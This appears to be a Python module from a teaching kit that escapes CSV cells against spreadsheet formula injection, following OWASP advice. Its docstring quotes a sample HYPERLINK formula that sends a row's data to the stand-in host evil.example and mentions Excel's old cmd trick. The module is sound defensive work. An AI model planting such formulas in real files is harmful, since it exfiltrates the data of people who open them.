"""CSV cells a spreadsheet reads as text, never as a formula.

Every CSV the kit writes (the integrity report, the LMS exports, the class report) may
carry text a student chose: an edited locked cell's line, a name or an id. A spreadsheet
that opens the file runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("https://evil.example/?"&A1, "click")`` sends the row away when clicked;
``=cmd|...`` ran programs in older Excel). OWASP's advice on CSV injection: such a cell,
and one that starts with a tab or a carriage return, gets a leading ``'``, which the
spreadsheet shows as plain text. A plain number (``-0.5``, ``+3``) is left as it is: it is
no formula, and an LMS must read it as a number.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

#: what a spreadsheet may read as the start of a formula (OWASP), with the full-width
#: forms some spreadsheets also take for them
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def inert(value: object) -> str:
    """`value` as a CSV cell no spreadsheet runs: a leading ``'`` before a cell that
    starts like a formula (a plain number stays as it is)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def inert_rows(rows: Iterable[Iterable[object]]) -> list[list[str]]:
    """Every cell of `rows` made `inert`."""
    return [[inert(cell) for cell in row] for row in rows]
